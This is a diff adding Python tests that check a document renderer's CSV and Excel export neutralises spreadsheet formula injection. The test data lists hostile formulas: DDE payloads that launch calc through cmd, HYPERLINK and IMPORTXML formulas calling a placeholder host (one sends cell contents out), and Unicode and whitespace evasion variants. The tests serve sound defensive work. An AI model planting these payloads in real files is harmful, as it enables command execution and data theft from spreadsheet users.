@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import re
 import zipfile
 from base64 import b64encode
+from collections.abc import Sequence
 from dataclasses import replace
 
 import docx
@@ -153,6 +156,53 @@ def test_csv_has_all_tables_and_no_formulas() -> None:
     text = render(DOCUMENT, Format.CSV).decode()
     assert text == (f"Item,Price,\r\n'{HOSTILE},\"1,234.50\",007\r\n,-12.5%,ab\r\n+1,two,'@three\r\n")
     assert render(DocumentResult("a", "image/png", 1, 1, "f", ()), Format.CSV) == b""
+
+
+FORMULAS = (
+    *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")'),
+    *('=IMPORTXML(CONCAT("http://x?",A1),"//a")', "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1"),
+    *("\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\u202e=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1"),
+    *("\uff20SUM(1)", '=1+1";=1+1', "'\"=1+1", "=1,=1", "-", "+", "--1", "=-12.50", "\u22121+1", "+49 (0) 30/1234"),
+)
+NUMBERS = {
+    "-12.50": -12.5,
+    "+1": 1.0,
+    "-1,234.50": -1234.5,
+    "-12.5%": -0.125,
+    "(45)": -45.0,
+    "\u22123": -3.0,
+    "007": None,
+}
+
+
+def _table_of(texts: Sequence[str]) -> DocumentResult:
+    table = Table(len(texts), 1, tuple(TableCell(row, 0, text) for row, text in enumerate(texts)))
+    return replace(DOCUMENT, pages=(PageResult(0, 100, 100, blocks=(_block(BlockType.TABLE, "", table=table),)),))
+
+
+def test_no_spreadsheet_computes_what_a_document_says() -> None:
+    """In CSV, a spreadsheet drops a byte order mark and white space before it looks for the sign of a formula."""
+    for text in FORMULAS:
+        csv_file = render(_table_of([text]), Format.CSV).decode()
+        ((cell,),) = csv.reader(io.StringIO(csv_file, newline=""))
+        seen = cell.strip().lstrip("\ufeff\u200b\u202e\u00a0")
+        assert not seen.startswith(("=", "+", "-", "@", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20")), repr(text)
+        book = zipfile.ZipFile(io.BytesIO(excel.render(_table_of([text]))))
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f" not in sheet.partition("<sheetData>")[2], repr(text)
+        assert '<c r="A1" s="1" t="s"><v>0</v></c>' in sheet, repr(text)  # the first shared string
+        assert "externalLink" not in str(book.namelist()), repr(text)
+        if not text.startswith("'"):
+            assert 'quotePrefix="1"' in book.read("xl/styles.xml").decode(), repr(text)
+
+
+def test_numbers_are_no_formulas() -> None:
+    rows = list(csv.reader(io.StringIO(render(_table_of(list(NUMBERS)), Format.CSV).decode(), newline="")))
+    assert [cell for (cell,) in rows] == list(NUMBERS)
+    book = zipfile.ZipFile(io.BytesIO(excel.render(_table_of(list(NUMBERS)))))
+    found = re.findall(r'<c r="A\d" s="\d"( t="s")?><v>([^<]*)</v>', book.read("xl/worksheets/sheet1.xml").decode())
+    assert [None if kind else float(value) for kind, value in found] == list(NUMBERS.values())
+    assert "quotePrefix" not in book.read("xl/styles.xml").decode()
 
 
 def test_a_table_that_goes_on_is_one_table() -> None:
